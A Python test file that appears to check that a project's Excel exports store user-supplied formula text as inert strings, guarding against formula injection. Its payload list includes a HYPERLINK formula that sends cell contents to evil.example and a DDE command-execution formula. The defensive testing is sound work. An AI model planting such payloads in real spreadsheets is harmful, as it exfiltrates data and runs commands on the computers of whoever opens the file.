"""No Excel file CCHC writes carries a formula made of someone's text (formula injection)."""

from __future__ import annotations

import ast
import io
from pathlib import Path

from openpyxl import Workbook, load_workbook

from cchc.common.spreadsheets import workbook_bytes

PACKAGE = Path(__file__).resolve().parents[2] / "cchc"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "=1+1"]


def test_formula_text_is_saved_as_the_same_text():
    wb = Workbook()
    wb.active.append(["Họ tên", *FORMULAS, "+84 912", "-", "@SUM(A1)", 42])
    ws = load_workbook(io.BytesIO(workbook_bytes(wb))).active
    cells = list(ws[1])
    assert [c.data_type for c in cells[1:4]] == ["s", "s", "s"]
    assert [c.value for c in cells] == ["Họ tên", *FORMULAS, "+84 912", "-", "@SUM(A1)", 42]


def _calls(tree: ast.AST) -> set[str]:
    names = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            f = node.func
            names.add(f.id if isinstance(f, ast.Name) else f.attr if isinstance(f, ast.Attribute) else "")
    return names


def test_every_workbook_is_saved_through_the_one_helper():
    """Every module that builds an openpyxl Workbook turns it into bytes with ``workbook_bytes``."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path.name == "spreadsheets.py" or "migrations" in path.parts:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        calls = _calls(tree)
        if "Workbook" in calls and "workbook_bytes" not in calls:
            offenders.append(str(path.relative_to(PACKAGE)))
    assert offenders == []
